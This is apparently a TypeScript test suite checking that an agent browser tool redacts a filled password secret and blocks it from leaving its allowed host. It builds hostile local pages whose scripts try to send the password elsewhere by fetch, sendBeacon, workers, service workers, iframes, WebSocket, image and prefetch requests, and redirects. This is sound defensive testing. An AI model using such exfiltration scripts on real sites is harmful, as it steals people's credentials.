import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import { after, before, test } from "node:test";
import { inflateSync } from "node:zlib";
import {
  type BrowserBench,
  noContainedBrowser,
  openSite,
  refOf,
  type Site,
  withBrowserBench,
} from "../../support/browser_bench.ts";
import { ANY_CHROMIUM } from "../../support/chromium.ts";
import { configOf } from "../../support/running_gateway.ts";

const skip = await noContainedBrowser();
const VALUE = "correct-horse-7-battery";
const PAGE = (script = "", field = "type=password", form = "method=post action=/login") =>
  `<title>Sign in</title><form ${form}><label>Name <input name=name></label>
  <label>Word <input id=word name=word ${field}></label><button>Sign in</button></form><p id=said></p>
  <script>const word = document.getElementById("word"), said = document.getElementById("said");${script}</script>`;
const RED = "<style>body{margin:0;background:#f00}</style>";

/** Bodies and addresses that the sites got. */
const got: string[] = [];
const take = (answer: (response: ServerResponse) => void) => (request: IncomingMessage, response: ServerResponse) => {
  let body = "";
  request.on("data", (chunk) => body += chunk).on("end", () => {
    got.push(`${request.headers.host} ${request.method} ${request.url} ${body}`);
    answer(response);
  });
};
const redirect = (to: () => string) => take((response) => void response.writeHead(307, { location: to() }).end());

let site: Site;
let other: Site;
before(async () => {
  other = await openSite({ "*": take((response) => void response.end("there")) });
  const elsewhere = (path: string) => `${other.origin.replace("127.0.0.1", "localhost")}${path}`;
  site = await openSite({
    "/": PAGE(),
    "/login": take((response) => void response.end("<title>In</title>Welcome")),
    "/text": PAGE("", ""),
    "/lies": PAGE(
      'Object.defineProperty(word, "type", { get: () => "password" }); word.matches = () => true; word.getAttribute = () => "password"',
      "",
    ),
    "/flips": PAGE('word.onfocus = () => { word.type = "text" }'),
    "/shows": PAGE('document.onkeydown = () => { word.type = "text" }'),
    "/copies": PAGE('word.oninput = () => { said.textContent = word.value; document.title = "T " + btoa(word.value) }'),
    "/large":
      `${RED}<input id=word type=password aria-label=Word style="position:fixed;inset:0;width:100%;height:50%"><p id=said
      style="position:fixed;bottom:0;left:0;width:100%;height:50%;margin:0;font-size:60px;background:#f00"></p><script>
      document.onkeydown = () => { word.type = "text"; document.getElementById("said").textContent = word.value }</script>`,
    "/away": PAGE("", "type=password", "method=post action=/redirect"),
    "/redirect": redirect(() => elsewhere("/stolen")),
    "/direct": PAGE("", "type=password", `method=get action=${elsewhere("/direct")}`),
    "/sends": PAGE(
      `word.oninput = () => { fetch("${
        elsewhere("/beacon")
      }", { method: "POST", mode: "no-cors", body: btoa(word.value) }) }`,
    ),
    "/frame": `<title>Frame</title><iframe src="${elsewhere("/form")}"></iframe>`,
  });
});
after(() => Promise.all([site.close(), other.close()]));

const rights = { env: "WORD", hosts: ["127.0.0.1"], tools: ["browser"] };
const OPTIONS = {
  config: {
    url_access: { allow_loopback: true },
    browser: { executable: ANY_CHROMIUM },
    secrets: configOf({
      secrets: {
        word: rights,
        elsewhere: { ...rights, hosts: ["a.example"] },
        tool: { ...rights, tools: ["http_request"] },
        gone: { ...rights, env: "NONE" },
      },
    }).secrets,
  },
  environment: { WORD: VALUE },
};

/** Opens a page and fills the field "Word" with a secret. */
async function fill({ call }: Pick<BrowserBench, "call">, path: string, secret = "word") {
  await call({ op: "navigate", url: site.origin + path });
  const ref = refOf((await call({ op: "snapshot" })).output, /textbox "Word"/);
  return await call({ op: "fill", ref, secret });
}

test(
  "a secret goes into a password field of its host, and no answer of the browser shows it",
  { skip },
  () =>
    withBrowserBench(OPTIONS, async (bench) => {
      const { call } = bench;
      const shown: string[] = [];
      const see = async (result: Promise<{ readonly output: string; readonly data?: unknown }>) => {
        const { output, data } = await result;
        shown.push(output, JSON.stringify(data));
        return output;
      };
      for (const path of ["/", "/copies", "/shows"]) {
        assert.doesNotMatch(await see(fill(bench, path)), /Cannot/, path);
        await see(call({ op: "press", key: "Shift" }));
        const snapshot = await see(call({ op: "snapshot" }));
        assert.match(snapshot, /\[redacted\]/);
        for (const op of ["text", "title", "url"]) await see(call({ op }));
      }
      assert.match(shown.join("\n"), /title="T \[redacted\]/);
      await fill(bench, "/");
      await see(call({ op: "click", ref: refOf((await call({ op: "snapshot" })).output, /button "Sign in"/) }));
      assert.match(await see(call({ op: "text" })), /Welcome/);
      assert.ok(got.some((request) => request.endsWith(`POST /login name=&word=${VALUE}`)), got.join("\n"));
      assert.ok(!shown.join("\n").includes(VALUE));
      assert.ok(!shown.join("\n").includes(btoa(VALUE)));
    }),
);

test(
  "a secret is refused, and the page gets nothing of it",
  { skip },
  () =>
    withBrowserBench(OPTIONS, async (bench) => {
      const refused: readonly (readonly [path: string, secret: string, reason: RegExp])[] = [
        ["/text", "word", /the element is no password field/],
        ["/lies", "word", /the element is no password field/],
        ["/flips", "word", /the page changed the field while it was filled/],
        ["/", "elsewhere", /add "127\.0\.0\.1" to hosts of \[secrets\.elsewhere\]/],
        ["/", "tool", /add "browser" to tools of \[secrets\.tool\]/],
        ["/", "gone", /\[secrets\.gone\]: it cannot be read or is empty/],
        ["/", "none", /there is no \[secrets\.none\]/],
      ];
      for (const [path, secret, reason] of refused) {
        const { output, isError } = await fill(bench, path, secret);
        assert.ok(isError, `${path} ${secret}`);
        assert.match(output, reason);
        assert.ok(!output.includes(VALUE));
        assert.doesNotMatch((await bench.call({ op: "snapshot" })).output, /redacted/, path);
      }
      const ref = refOf((await bench.call({ op: "snapshot" })).output, /textbox "Word"/);
      for (const input of [{ op: "fill", ref }, { op: "fill", ref, text: "a", secret: "word" }]) {
        assert.match((await bench.call(input)).output, /op "fill" needs either "text" or "secret"/);
      }
      assert.match(
        (await bench.call({ op: "type", ref, text: "a", secret: "word" })).output,
        /op "type" takes no "secret"/,
      );
    }),
);

test("no request takes a filled secret to another host", { skip }, () =>
  withBrowserBench(OPTIONS, async (bench) => {
    const { call } = bench;
    const tries = [["/away", true], ["/direct", true], ["/sends", false]] as const;
    for (const [path, clicks] of tries) {
      const filled = await fill(bench, path);
      assert.equal(filled.isError, false, path);
      const button = refOf((await call({ op: "snapshot" })).output, /button "Sign in"/);
      const output = clicks ? (await call({ op: "click", ref: button })).output : (await call({ op: "text" })).output;
      assert.match(
        `${filled.output}${output}${(await call({ op: "url" })).output}`,
        /with a secret was refused: it would go to/,
        path,
      );
    }
    const leaked = got.filter((request) => request.startsWith("localhost"));
    assert.deepEqual(leaked, []);
  }));

/** Script that sends what it is given to another host, and answers with "sent" or "refused". */
const sender = (there: string, name: string, answer: string) =>
  `fetch("${there}/leak-${name}", { method: "POST", mode: "no-cors", body: v }).then(() => "sent", () => "refused").then((s) => ${answer})`;
const PEER = `<script>onmessage = ({ data: v }) => ${sender("", "frame", 'parent.postMessage(s, "*")')}</script>`;

/** Page that takes a value that it is given to another host in every way that a page has beside a request of its own. */
function hostilePage(there: string): string {
  const text = JSON.stringify;
  const worker = (name: string) => `onmessage = ({ data: v }) => ${sender(there, name, "postMessage(s)")}`;
  const nested = `onmessage = ({ data: v }) => { const inner = new Worker(URL.createObjectURL(new Blob([${
    text(worker("nested"))
  }]))); inner.onmessage = ({ data }) => postMessage(data); inner.postMessage(v) }`;
  return `<title>Ways</title><iframe id=early src="${there}/peer"></iframe>
  <form action="${there}/leak-window" target=_blank><input id=word name=word type=password aria-label=Word><button>Open</button></form>
  <p id=said></p><p id=end></p><script>
  const word = document.getElementById("word"), results = [];
  const say = (name, result) => { results.push(name + " " + result); document.getElementById("said").textContent = results.join(", ");
    if (results.length === 12) document.getElementById("end").textContent = "all ways were tried" };
  const blob = (script) => URL.createObjectURL(new Blob([script], { type: "text/javascript" }));
  const start = (script, name) => { const made = new Worker(blob(script)); made.onmessage = ({ data }) => say(name, data); return made };
  const share = (name) => { const made = new SharedWorker("/shared.js?" + name); made.onerror = () => say(name, "refused");
    made.port.onmessage = ({ data }) => data === "here" ? document.title = "Shared" : say(name, data); made.port.start(); return made.port };
  const early = start(${text(worker("early"))}, "early"), shared = share("early-shared");
  onmessage = ({ data }) => say("frame", data);
  navigator.serviceWorker.onmessage = ({ data }) => say("service", data);
  const serve = async (scope) => { const { installing, waiting, active } = await navigator.serviceWorker.register("/serve.js", { scope });
    return installing ?? waiting ?? active };
  const served = serve("/early/");
  served.then((ready) => ready.onstatechange = () => ready.state === "activated" && (said.textContent = "ready"));
  let isOver = false;
  word.oninput = async () => {
    if (isOver) return;
    isOver = true;
    const v = word.value, there = "${there}";
    early.postMessage(v); shared.postMessage(v); document.getElementById("early").contentWindow.postMessage(v, "*");
    start(${text(worker("late"))}, "late").postMessage(v); start(${
    text(nested)
  }, "nested").postMessage(v); share("late-shared").postMessage(v);
    const frame = document.createElement("iframe"); frame.src = there + "/peer";
    frame.onload = () => frame.contentWindow.postMessage(v, "*"); document.body.append(frame);
    const gone = document.createElement("iframe"); gone.src = there + "/leak-address?" + v; document.body.append(gone);
    (await served).postMessage(v); (await serve("/late/")).postMessage(v);
    const socket = new WebSocket(there.replace("http", "ws") + "/leak-socket?" + v);
    socket.onerror = () => say("socket", "refused"); socket.onopen = () => say("socket", "open");
    const image = new Image(); image.src = there + "/leak-image?" + v; image.onerror = () => say("image", "refused");
    const link = document.createElement("link"); link.rel = "prefetch"; link.href = there + "/leak-prefetch?" + v;
    link.onerror = () => say("prefetch", "refused"); link.onload = () => say("prefetch", "answered"); document.head.append(link);
    navigator.sendBeacon(there + "/leak-beacon", v);
    fetch(there + "/leak-late", { method: "POST", mode: "no-cors", keepalive: true, body: v }).catch(() => say("keepalive", "refused"));
  };</script>`;
}

test("no worker, frame, window or socket takes a filled secret to another host", { skip }, async () => {
  const there = await openSite({ "/peer": PEER, "*": take((response) => void response.end("there")) });
  const elsewhere = there.origin.replace("127.0.0.1", "localhost");
  const script = (text: string) => (_request: IncomingMessage, response: ServerResponse) =>
    void response.writeHead(200, { "content-type": "text/javascript" }).end(text);
  const here = await openSite({
    "/": hostilePage(elsewhere),
    "/shared.js": script(
      `onconnect = ({ ports: [p] }) => { p.postMessage("here"); p.onmessage = ({ data: v }) => ${
        sender(elsewhere, "shared", "p.postMessage(s)")
      } }`,
    ),
    "/serve.js": script(
      `onmessage = ({ data: v, source }) => ${sender(elsewhere, "service", "source.postMessage(s)")}`,
    ),
  });
  try {
    await withBrowserBench(OPTIONS, async ({ call }) => {
      await call({ op: "navigate", url: `${here.origin}/` });
      await call({ op: "wait", for: "ready" });
      const ref = refOf((await call({ op: "snapshot" })).output, /textbox "Word"/);
      const filled = await call({ op: "fill", ref, secret: "word" });
      assert.equal(filled.isError, false, filled.output);
      const tried = await call({ op: "wait", for: "all ways were tried" });
      const said = (await call({ op: "text" })).output;
      assert.equal(tried.isError, false, tried.output + said);
      assert.doesNotMatch(said, /sent|open/, said);
      const button = refOf((await call({ op: "snapshot" })).output, /button "Open"/);
      const opened = await call({ op: "click", ref: button });
      assert.match(`${filled.output}${opened.output}`, /with a secret was refused: it would go to/);
      assert.deepEqual(there.requests.filter((request) => request.includes("leak")), []);
    });
  } finally {
    await Promise.all([here.close(), there.close()]);
  }
});

test(
  "a picture hides each field and text that may show a filled secret",
  { skip },
  () =>
    withBrowserBench(OPTIONS, async (bench) => {
      await bench.call({ op: "navigate", url: `${site.origin}/large` });
      await bench.call({ op: "screenshot", path: "before.png" });
      assert.ok(redOf(readFileSync(bench.workspace.path("before.png"))) > 0.4);
      assert.equal((await fill(bench, "/large")).isError, false);
      await bench.call({ op: "press", key: "Shift" });
      assert.match((await bench.call({ op: "text" })).output, /\[redacted\]/);
      assert.equal((await bench.call({ op: "screenshot", path: "after.png" })).isError, false);
      assert.ok(redOf(readFileSync(bench.workspace.path("after.png"))) < 0.05);
    }),
);

/** Returns the part of the pixels of a PNG that are red; filters of lines are taken as none, which is near enough for one colour. */
function redOf(png: Uint8Array): number {
  const view = Buffer.from(png);
  const width = view.readUInt32BE(16);
  const channels = view[25] === 6 ? 4 : 3;
  const parts: Buffer[] = [];
  for (let at = 8; at < view.length; at += view.readUInt32BE(at) + 12) {
    if (view.toString("latin1", at + 4, at + 8) === "IDAT") {
      parts.push(view.subarray(at + 8, at + 8 + view.readUInt32BE(at)));
    }
  }
  const lines = unfiltered(inflateSync(Buffer.concat(parts)), { stride: width * channels, channels });
  let red = 0;
  for (const line of lines) {
    for (let x = 0; x < line.length; x += channels) {
      if (line[x] === 255 && line[x + 1] === 0 && line[x + 2] === 0) red++;
    }
  }
  return red / (width * lines.length);
}

/** Undoes the filters of PNG lines. Source: PNG specification, section 9 */
function unfiltered(
  data: Uint8Array,
  { stride, channels }: { readonly stride: number; readonly channels: number },
): readonly Uint8Array[] {
  const lines: Uint8Array[] = [];
  let above = new Uint8Array(stride);
  for (let at = 0; at < data.length; at += stride + 1) {
    const line = data.slice(at + 1, at + 1 + stride);
    for (let x = 0; x < stride; x++) {
      const [a, b, c] = [line[x - channels] ?? 0, above[x] ?? 0, above[x - channels] ?? 0];
      const p = a + b - c;
      const paeth = Math.abs(p - a) <= Math.abs(p - b) && Math.abs(p - a) <= Math.abs(p - c)
        ? a
        : Math.abs(p - b) <= Math.abs(p - c)
        ? b
        : c;
      line[x] = (line[x] ?? 0) + ([0, a, b, (a + b) >> 1, paeth][data[at] ?? 0] ?? 0);
    }
    lines.push(line);
    above = line;
  }
  return lines;
}
